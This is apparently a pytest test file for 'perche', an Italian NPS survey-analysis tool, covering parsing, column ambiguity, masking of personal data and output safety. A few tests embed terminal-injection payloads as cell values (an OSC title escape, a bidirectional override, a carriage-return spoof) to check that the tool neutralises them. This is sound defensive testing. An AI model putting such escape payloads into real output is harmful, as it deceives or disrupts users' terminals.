    assert (sa["rows"], sa["rows_used"], sa["bad_rows"]) == (sr["rows"], sr["rows_used"], sr["bad_rows"])
    assert da["overall"]["score"] == pytest.approx(dr["overall"]["score"])
    assert sorted(p.get("line") for p in sa["problems"]) == sorted(p.get("line") for p in sr["problems"])
    assert [line for line in a[2] if "line" in line] == [line for line in r[2] if "line" in line]


def test_the_score_rule_is_strict_and_single(tmp_path, capsys):
    text, _ = AGREE["other scripts and notations"]
    path = write(tmp_path / "f.csv", text)
    _, r, _, jr = _both(path, tmp_path, capsys)
    doc = json.loads(jr.read_text("utf-8"))
    # used: "9,0", 9.00, " 7 " (surrounding spaces are not part of a number); left out: the rest
    assert (doc["source"]["rows"], doc["source"]["rows_used"], doc["source"]["bad_rows"]) == (9, 3, 6)
    bad = {p["line"]: p["message"] for p in doc["source"]["problems"]}
    assert sorted(bad) == [2, 3, 4, 8, 9, 10]
    assert "'١٠' is not an integer in [0, 10]" in bad[2] and "'0x9'" in bad[3] and "'+9'" in bad[4]


def test_the_date_rule_names_each_date_it_cannot_read(tmp_path, capsys):
    text, _ = AGREE["dates of every form"]
    path = write(tmp_path / "f.csv", text)
    _, r, _, jr = _both(path, tmp_path, capsys)
    doc = json.loads(jr.read_text("utf-8"))
    assert doc["source"]["rows_used"] == 8  # a bad date leaves a row out of the trend only
    bad = {p["line"]: p["message"] for p in doc["source"]["problems"]}
    assert sorted(bad) == [7, 8, 9]
    assert "data '20240201' is not a date" in bad[7] and "'31/02/2024'" in bad[8] and "'2024/02/01'" in bad[9]
    periods = {p["period"]: p["result"]["n"] if "result" in p else p["n"] for p in doc["trend"]["periods"]}
    assert periods == {"2024-02": 2, "2024-03": 3}


@pytest.mark.parametrize("header", ["nps,data,nps,motivo", "NPS,data,nps,motivo", "nps,data, Nps ,motivo"])
def test_analyze_and_report_refuse_duplicate_score_columns_alike(header, tmp_path, capsys):
    path = write(tmp_path / "d.csv", f"{header}\n9,2024-01-02,3,ok\n10,2024-01-03,2,ok\n")
    a, r, _, _ = _both(path, tmp_path, capsys)
    ea = one_error(a, "column 1", "column 3")
    er = one_error(r, "column 1", "column 3")
    assert ea == er


# --- class 8: columns that differ only by case ----------------------------------------------------------

CASES = pd.DataFrame({"NPS": [9, 10, 3], "nps": [0, 1, 2], "motivo": ["attesa", "ok", "prezzo"]})


def _csv_of(df, tmp_path):
    path = tmp_path / "case.csv"
    df.to_csv(path, index=False)
    return path


@pytest.mark.parametrize("source", ["frame", "csv"])
def test_a_default_column_matching_two_columns_is_an_error_listing_them(source, tmp_path):
    data = CASES if source == "frame" else _csv_of(CASES, tmp_path)
    with pytest.raises(perche.AnalysisError, match=r"several columns could be the score column 'nps': "
                                                   r"column 1 'NPS', column 2 'nps'.*score= \(--score\)"):
        perche.analyze(data, codebook=True, bootstrap_samples=20, progress=False)


@pytest.mark.parametrize("source", ["frame", "csv"])
def test_a_name_written_exactly_picks_its_column(source, tmp_path):
    data = CASES if source == "frame" else _csv_of(CASES, tmp_path)
    upper = perche.analyze(data, score="NPS", codebook=True, bootstrap_samples=20, progress=False)
    lower = perche.analyze(data, score="nps", codebook=True, bootstrap_samples=20, progress=False)
    assert upper.data["columns"]["score"] == "NPS" and upper.overall["score"] == pytest.approx(100 / 3)
    assert lower.data["columns"]["score"] == "nps" and lower.overall["score"] == pytest.approx(-100)
    with pytest.raises(perche.AnalysisError, match=r"score column 'Nps' is ambiguous: column 1 'NPS', column 2 'nps'"):
        perche.analyze(data, score="Nps", codebook=True, bootstrap_samples=20, progress=False)


def test_spaces_around_a_name_make_it_ambiguous_in_a_frame_too():
    df = pd.DataFrame({"nps ": [9, 10], " nps": [1, 2], "motivo": ["a", "b"]})
    with pytest.raises(perche.AnalysisError, match=r"column 1 'nps ', column 2 ' nps'"):
        perche.analyze(df, codebook=True, progress=False)


def test_a_segment_column_matching_two_columns_is_an_error(tmp_path, capsys):
    path = write(tmp_path / "s.csv", "nps,canale,Canale,motivo\n9,a,b,ok\n3,a,b,ok\n")
    one_error(run(capsys, "report", path), "segment column 'canale'", "column 2 'canale', column 3 'Canale'",
              "--by")
    assert run(capsys, "report", path, "--by", "Canale")[0] == 0


def test_scores_and_dates_from_a_frame_follow_the_same_rules():
    df = pd.DataFrame({
        "nps": [9, 9.0, np.nan, "9,0", "1e1", True, 10, 4],
        "data": ["2024-01-05", pd.Timestamp("2024-03-01 00:30", tz="Europe/Rome"), None, "20240201",
                 np.datetime64("2024-01-06"), "2024-01-05", "5 gen 2024", "1 febbraio 2024"],
        "motivo": ["a"] * 8})
    r = perche.analyze(df, codebook=True, bootstrap_samples=20, progress=False)
    src = r.data["source"]
    assert src["rows_used"] == 5 and src["bad_rows"] == 3
    rows = {p["row"]: p["message"] for p in src["problems"]}
    assert "nps is empty" in rows[2] and "'1e1'" in rows[4] and "'True'" in rows[5]
    assert [p["period"] for p in r.data["trend"]["periods"]] == ["2024-01", "2024-02", "2024-03"]


# --- file names that are not UTF-8 (found in review) ----------------------------------------------


def _bytes_run(*argv):
    # argv as bytes: a Latin-1 file name reaches Python as a str with surrogate escapes.
    return subprocess.run([os.fsencode(sys.executable), b"-m", b"perche.cli", *argv], capture_output=True,
                          timeout=300)


def test_file_names_that_are_not_utf8_are_read_and_written(tmp_path):
    d = os.fsencode(tmp_path)
    data, model, codebook = d + b"/caff\xe8.csv", d + b"/m\xe8.model", d + b"/cb\xe8.txt"
    with open(data, "wb") as f:
        f.write(Path(SAMPLE).read_bytes())
    with open(codebook, "wb") as f:
        f.write(Path(DEFAULT_CODEBOOK).read_bytes())
    p = _bytes_run(b"train", data, b"--text", b"motivo", b"--labels", b"driver", b"--out", model, b"--cv-folds", b"0")
    assert p.returncode == 0, p.stderr.decode(errors="replace")
    assert perche.DriverClassifier.load(model).fitted
    for extra in ([b"--model", model], [b"--codebook", codebook]):
        p = _bytes_run(b"analyze", data, b"--no-progress", b"--bootstrap", b"50", *extra)
        assert p.returncode == 0, p.stderr.decode(errors="replace")
    p = _bytes_run(b"report", data)
    assert p.returncode == 0, p.stderr.decode(errors="replace")


def test_a_missing_file_with_a_name_that_is_not_utf8_is_one_line_naming_it(tmp_path):
    missing = os.fsencode(tmp_path) + b"/assente\xe8.model"
    p = _bytes_run(b"analyze", b"--model", missing, b"--no-progress")
    assert p.returncode == 2
    lines = p.stderr.decode("utf-8").strip().splitlines()
    assert len(lines) == 1 and "assente" in lines[0], lines


def test_a_codebook_that_is_not_utf8_is_one_line_naming_the_file_and_line(tmp_path):
    bad = tmp_path / "cb.txt"
    bad.write_bytes(Path(DEFAULT_CODEBOOK).read_bytes().replace(b"\n", b"\n\xff", 1))
    with pytest.raises(perche.FormatError, match=r"codebook .*cb\.txt: line 2: byte \d+ is not UTF-8"):
        perche.Codebook.load(bad)
    p = run_subprocess("analyze", "--codebook", bad, "--no-progress")
    assert p.returncode == 2
    assert len(p.stderr.decode().strip().splitlines()) == 1


def test_a_duplicated_column_name_is_one_line_with_advice_that_works(tmp_path, capsys):
    # Was two lines: the reader's note "looking it up by name is an error, pick a column by
    # position" (no option takes a position), then "say which one with --text", which no name can.
    both = tmp_path / "both.csv"
    both.write_text('id,motivo,motivo\n1,"tel 347 123 4567",x\n', encoding="utf-8")
    one_error(run(capsys, "mask", both, "--out", tmp_path / "o.csv"), "column 2 'motivo', column 3 'motivo'",
              "rename one of them")
    unused = tmp_path / "unused.csv"  # a duplicate the command does not look up hinders nothing
    unused.write_text('id,motivo,note,note\n1,"tel 347 123 4567",a,b\n', encoding="utf-8")
    code, _, err = run(capsys, "mask", unused, "--out", tmp_path / "o.csv")
    assert code == 0 and not [e for e in err if "same name" in e or "is an error" in e]


@pytest.mark.parametrize("command", [
    ["train", "--text", "motivo", "--labels", "driver", "--out"], ["sample", "--out"], ["classify", "--out"],
    ["mask", "--out"], ["discover", "--out"], ["analyze", "--json"], ["analyze", "--html"]])
def test_an_output_that_is_the_input_file_is_refused_in_one_line(command, tmp_path, capsys):
    # The atomic write replaced the input with the output: the survey was gone.
    path = write(tmp_path / "s.csv", "nps,motivo,driver\n9,personale gentile,cortesia\n3,attesa lunga,attesa\n")
    before = path.read_bytes()
    same = os.path.join(str(tmp_path), ".", "s.csv")  # the same file under another spelling
    code, _, err = run(capsys, command[0], path, *command[1:], same)
    assert code == 2 and path.read_bytes() == before
    assert err == [f"perche: {command[-1]} {same} is the input file: writing it would replace the data being read; "
                   "name another file"]


@pytest.mark.parametrize("command", ["classify", "mask", "sample"])
def test_a_table_written_to_a_terminal_carries_no_control_character(command, tmp_path, capsys, monkeypatch):
    # Red-team 18 (stop 41): a comment's OSC sequence retitled the terminal, U+202E reversed the
    # lines after it. On a terminal they become U+FFFD; a pipe gets the cells as read.
    payload = "attesa \x1b]0;pwned\x07 lunga \u202e fine\u2028 e \u200f"
    path = write(tmp_path / "p.csv", f'id,nps,motivo\n1,10,"{payload}"\n2,3,ok\n')
    monkeypatch.setattr(sys.stdout, "isatty", lambda: True, raising=False)
    code, out, _ = run(capsys, command, path)
    assert code == 0 and "attesa \ufffd]0;pwned\ufffd lunga \ufffd fine\ufffd e \ufffd" in out, out
    monkeypatch.setattr(sys.stdout, "isatty", lambda: False, raising=False)
    code, out, _ = run(capsys, command, path)
    assert code == 0 and payload in out


def test_tokens_written_to_a_terminal_carry_no_control_character(capsys, monkeypatch):
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO("ciao \x1b[31mrosso\n".encode())))
    monkeypatch.setattr(sys.stdout, "isatty", lambda: True, raising=False)
    code, out, _ = run(capsys, "tokenize", "--tokens")
    assert code == 0 and "\x1b" not in out and "\ufffd" in out


def test_terminal_text_keeps_off_line_separators_and_bidirectional_marks():
    from perche.report import _t
    assert _t("a\u2028b\u2029c\u200ed\u200fe\u061cf") == "a\ufffdb\ufffdc\ufffdd\ufffde\ufffdf"
    assert cli._one_line("x\u2028y\u200f") == "x y\\u200f"  # a line separator is a line break


def test_a_carriage_return_inside_a_cell_does_not_reach_the_terminal():
    # Review of stop 41: "innocuo\rFALSO" showed FALSO over the start of the line; CRLF ends stay.
    out = io.StringIO()
    cli._Screen(out).write('1;"innocuo\rFALSO"\r\n')
    assert out.getvalue() == '1;"innocuo\ufffdFALSO"\r\n'


def test_train_masks_personal_data_before_the_model_keeps_its_vocabulary(tmp_path, capsys):
    # Red-team 19 (stop 41): the model file held customers' e-mails and phones as features.
    rows = ["id,nps,motivo,driver"]
    for i in range(40):
        rows.append(f"{i},{i % 11},attesa lunga chiamatemi al 3471239876 o scrivete a mario.rossi@example.it,"
                    f"{'tempi_attesa' if i % 2 else 'prezzo'}")
        rows.append(f"{i},{i % 11},prezzo troppo alto per il servizio,prezzo")
    path = write(tmp_path / "t.csv", "\n".join(rows) + "\n")
    for flags, holds in (([], False), (["--no-mask"], True)):
        out = tmp_path / f"m{len(flags)}.model"
        code, _, err = run(capsys, "train", path, "--text", "motivo", "--labels", "driver", "--cv-folds", "0",
                           "--eval-folds", "0", "--out", out, *flags)
        assert code == 0, err
        data = out.read_bytes()
        assert (b"3471239876" in data or b"rossi@example" in data) == holds


# --- red-team 23: the command line and the labelling loop as a new CX analyst uses them ------------


def test_mask_without_text_masks_every_default_text_column_and_names_them(tmp_path, capsys):
    # Only motivo was masked: commento, also a default text column, kept its e-mail and phone.
    path = write(tmp_path / "export.csv", "id;nps;motivo;commento;nota\r\n"
                 "1;9;chiamatemi al 347 123 4567;scrivete a mario.rossi@gmail.com;x\r\n"
                 "2;3;servizio lento;il mio cellulare è 347 765 4321;y\r\n")
    out = tmp_path / "masked.csv"
    code, _, err = run(capsys, "mask", path, "--out", out)
    assert code == 0 and err == [f"perche mask: 2 rows, 3 cells masked in motivo, commento → {out}"]
    text = out.read_text(encoding="utf-8-sig")
    assert "mario.rossi@gmail.com" not in text and "347 765 4321" not in text and "347 123 4567" not in text
    code, stdout, err = run(capsys, "mask", path)  # to stdout: the columns are named on stderr all the same
    assert code == 0 and "347 765 4321" not in stdout
    assert err == ["perche mask: 2 rows, 3 cells masked in motivo, commento"]
    code, stdout, err = run(capsys, "mask", path, "--text", "commento")  # named: that column only
    assert code == 0 and "347 123 4567" in stdout and err == ["perche mask: 2 rows, 2 cells masked in commento"]
    one_error(run(capsys, "mask", write(tmp_path / "n.csv", "id,nota\n1,x\n")), "no text column", "--text")


@pytest.mark.parametrize("argv, option", [
    (["discover", "{f}", "--seeds", "{x}", "--out", "{x}"], "--seeds"),
    (["mask", "{f}", "--key-file", "{x}", "--out", "{x}"], "--key-file"),
    (["analyze", "{f}", "--no-progress", "--model", "{x}", "--json", "{x}"], "--model"),
    (["analyze", "{f}", "--no-progress", "--codebook", "{x}", "--html", "{x}"], "--codebook"),
    (["report", "{f}", "--sentiment-model", "{x}", "--json", "{x}"], "--sentiment-model"),
    (["classify", "{f}", "--model", "{x}", "--out", "{x}"], "--model"),
    (["classify", "{f}", "--codebook", "{x}", "--out", "{x}"], "--codebook"),
    (["sample", "{f}", "--model", "{x}", "--out", "{x}"], "--model"),
    (["train", "{f}", "--text", "motivo", "--codebook", "{x}", "--out", "{x}"], "--codebook"),
])
def test_an_output_that_is_another_input_is_refused_in_one_line(argv, option, tmp_path, capsys):
    # discover --out SEEDS replaced the seeds with a codebook, mask --out KEY the secret key with the
    # masked CSV (every pseudonym lost), analyze --json MODEL the model with JSON; all with exit 0.
    path = write(tmp_path / "s.csv", "nps,motivo\n9,personale gentile\n3,attesa lunga\n")
    x = tmp_path / "input"
    x.write_bytes(b"Prezzo: caro prezzo\n")
    before = x.read_bytes()
    same = os.path.join(str(tmp_path), ".", "input")  # the same file under another spelling
    code, _, err = run(capsys, *[a.format(f=path, x=same) for a in argv])
    assert code == 2 and x.read_bytes() == before
    out_option = argv[-2]
    assert err == [f"perche: {out_option} {same} is the {option} file: writing it would replace it; name another file"]
    os.link(x, tmp_path / "hard")  # one file under two names
    code, _, err = run(capsys, *[a.format(f=path, x=x if a == "{x}" and i < len(argv) - 1 else tmp_path / "hard")
                                 for i, a in enumerate(argv)])
    assert code == 2 and x.read_bytes() == before and "writing it would replace it" in err[0], err


def _labelled_survey(tmp_path, rows=120, blank=(), **cells):
    """The first commented rows of the sample survey (motivo, driver), driver blanked in rows
    `blank`, cells[i] in the driver cell of row i."""
    df = pd.read_csv(SAMPLE, keep_default_na=False, dtype=str)
    df = df[df.motivo.str.strip() != ""].head(rows)[["motivo", "driver"]].reset_index(drop=True)
    for i in blank:
        df.loc[i, "driver"] = ""
    for i, v in cells.items():
        df.loc[int(i[1:]), "driver"] = v
    path = tmp_path / "labelled.csv"
    df.to_csv(path, index=False)
    return path, df


FAST_TRAIN = ["--cv-folds", "0", "--eval-folds", "0"]


@pytest.mark.parametrize("cell, personal, kind", [
    ("richiamatemi al 347 123 4567, Mario Rossi", "347 123 4567", "[TEL]"),
    ("mario.rossi@gmail.com", "mario.rossi", "[EMAIL]")])
def test_train_and_evaluate_refuse_a_label_cell_with_personal_data_quoting_it_masked(cell, personal, kind, tmp_path,
                                                                                     capsys):
    # A comment pasted into the label column became the drivers "richiamatemi al 347 123 4567" and
    # "Mario Rossi": in the model file and on the terminal, with masking on.
    path, _ = _labelled_survey(tmp_path, r7=cell, r8=cell)  # twice: a driver of one example is refused
    model = tmp_path / "m.model"
    line = one_error(run(capsys, "train", path, "--text", "motivo", "--labels", "driver", *FAST_TRAIN, "--out", model),
                     "--labels column 'driver', line 9:", kind, "holds personal data", "fix the row")
    assert personal not in line and not model.exists()
    line = one_error(run(capsys, "evaluate", path, "--model", perche.survey.DEFAULT_MODEL, "--labels", "driver"),
                     "line 9:", kind)
    assert personal not in line
    code, _, _ = run(capsys, "train", path, "--text", "motivo", "--labels", "driver", *FAST_TRAIN, "--out", model,
                     "--no-mask")  # as written, when told
    assert code == 0 and cell.split(",")[0].encode() in model.read_bytes()


def test_a_0_1_label_column_with_personal_data_is_quoted_masked(tmp_path, capsys):
    # "labels column 'prezzo', line 3: 'mario.rossi@gmail.com' is not 0 or 1" quoted it as written.
    path = write(tmp_path / "f.csv", "motivo,prezzo,cortesia\nprezzo alto,1,0\nok,mario.rossi@gmail.com,0\n"
                 "gentili,0,1\n")
    for argv in (["train", path, "--text", "motivo", "--out", tmp_path / "m.model", *FAST_TRAIN],
                 ["evaluate", path, "--model", perche.survey.DEFAULT_MODEL]):
        line = one_error(run(capsys, *argv, "--labels", "prezzo", "cortesia"), "'prezzo', line 3: '[EMAIL]'")
        assert "rossi" not in line
    write(tmp_path / "p.csv", "motivo,driver,positivi,negativi\nprezzo alto,prezzo,,prezzo\n"
          "gentili,cortesia,sono Mario Rossi,\n")
    line = one_error(run(capsys, "train", tmp_path / "p.csv", "--text", "motivo", "--labels", "driver", "--positive",
                         "positivi", "--negative", "negativi", "--out", tmp_path / "m.model", *FAST_TRAIN),
                     "--positive column 'positivi', line 3:", "[NOME]")
    assert "Mario" not in line


def test_train_and_evaluate_leave_out_rows_without_a_label_and_count_them(tmp_path, capsys):
    # The labelling loop: 60 of 200 sampled rows filled in; the 140 left empty were trained on as
    # comments naming no driver, and the summary said "200 comments (0 empty skipped)".
    blank = range(60, 120)
    path, df = _labelled_survey(tmp_path, blank=blank)
    done = tmp_path / "done.csv"
    df.drop(index=list(blank)).to_csv(done, index=False)
    a, b = tmp_path / "a.model", tmp_path / "b.model"
    code, out, err = run(capsys, "train", path, "--text", "motivo", "--labels", "driver", *FAST_TRAIN, "--out", a)
    assert code == 0 and "60 comments (0 empty skipped, 60 without a label skipped)" in out
    assert ("perche: 60 of the 120 comments have no label in labels driver and are left out as not labelled yet; "
            "pass --empty-means-no-driver if an empty cell means the comment names no driver") in err
    assert run(capsys, "train", done, "--text", "motivo", "--labels", "driver", *FAST_TRAIN, "--out", b)[0] == 0
    assert a.read_bytes() == b.read_bytes()  # trained on the labelled rows alone
    code, out, err = run(capsys, "train", path, "--text", "motivo", "--labels", "driver", *FAST_TRAIN, "--out", a,
                         "--empty-means-no-driver")
    assert code == 0 and "120 comments (0 empty skipped)," in out and not [e for e in err if "no label" in e]
    assert a.read_bytes() != b.read_bytes()
    model = perche.survey.DEFAULT_MODEL
    code, out, err = run(capsys, "evaluate", path, "--model", model, "--labels", "driver")
    assert code == 0 and "60 comments (0 empty skipped, 60 without a label skipped)" in out
    alone = run(capsys, "evaluate", done, "--model", model, "--labels", "driver")[1]
    assert out.splitlines()[1:] == alone.splitlines()[1:]  # scored on the labelled rows alone
    code, out, _ = run(capsys, "evaluate", path, "--model", model, "--labels", "driver", "--empty-means-no-driver")
    assert code == 0 and "120 comments (0 empty skipped)," in out


def test_the_file_may_follow_labels(survey, tmp_path, capsys):
    # --labels takes one or more columns and took FILE too: "the following arguments are required: file".
    model = perche.survey.DEFAULT_MODEL
    code, out, err = run(capsys, "evaluate", "--model", model, "--labels", "driver", survey)
    assert code == 0 and out == run(capsys, "evaluate", survey, "--model", model, "--labels", "driver")[1]
    code, out, _ = run(capsys, "evaluate", "--model", model, "--labels", "tempi_attesa", "prezzo", survey)
    assert code == 0 and "2 drivers" in out
    m = tmp_path / "m.model"
    code, out, _ = run(capsys, "train", "--text", "motivo", "--labels", "driver", survey, "--out", m, *FAST_TRAIN)
    assert code == 0 and f"model: {m}" in out
    code, out, _ = run(capsys, "train", "--labels", "tempi_attesa", "prezzo", survey, "--text", "motivo", "--out", m,
                       *FAST_TRAIN)
    assert code == 0 and "2 drivers from labels tempi_attesa, prezzo" in out
    for argv in (["evaluate", "--model", model, "--labels", "driver"],
                 ["train", "--text", "motivo", "--labels", "driver", "--out", m]):
        one_error(run(capsys, *argv), f"perche {argv[0]}: the following arguments are required: file")


def test_sample_advice_is_a_command_a_shell_runs(tmp_path, capsys):
    # "then perche train da etichettare.csv --text Motivo del voto --labels etichetta finale" named
    # other files and columns when pasted into a shell.
    import shlex

    path = write(tmp_path / "export.csv", "id;Motivo del voto\r\n1;attesa lunga al telefono\r\n2;prezzo alto\r\n")
    out = tmp_path / "da etichettare.csv"
    code, _, err = run(capsys, "sample", path, "--text", "Motivo del voto", "--label-column", "etichetta finale",
                       "--out", out)
    assert code == 0 and len(err) == 1
    assert shlex.split(err[0].split("then ", 1)[1]) == ["perche", "train", str(out), "--text", "Motivo del voto",
                                                        "--labels", "etichetta finale", "--out", "MODEL"]
    for empty in ("", "  "):
        one_error(run(capsys, "sample", path, "--label-column", empty, "--out", out),
                  f"--label-column {empty!r} is empty")


def test_train_refuses_a_driver_with_one_example(tmp_path, capsys):
    # Red-team, stop 43: four comments, one per driver, gave a model whose every driver stood on
    # one example; an unseen comment got each driver's prior, 1/2, and so every driver.
    path = tmp_path / "few.csv"
    path.write_text("motivo,driver\nho aspettato un'ora al telefono,attesa\n"
                    "prezzo troppo alto per quello che offre,prezzo\ntutto bene grazie,\nnulla da segnalare,\n",
                    encoding="utf-8")
    m = tmp_path / "m.model"
    refused = ("perche: driver(s) attesa, prezzo have fewer than 2 comments with them or without them; label more "
               "comments (perche sample picks them): a model needs two of each to learn a driver")
    one_error(run(capsys, "train", path, "--text", "motivo", "--labels", "driver", "--out", m,
                  "--empty-means-no-driver"), refused)
    code, _, err = run(capsys, "train", path, "--text", "motivo", "--labels", "driver", "--out", m)
    assert code == 2 and err[-1] == refused and "2 of the 4 comments have no label" in err[0]  # and why there are 2
    assert not m.exists()
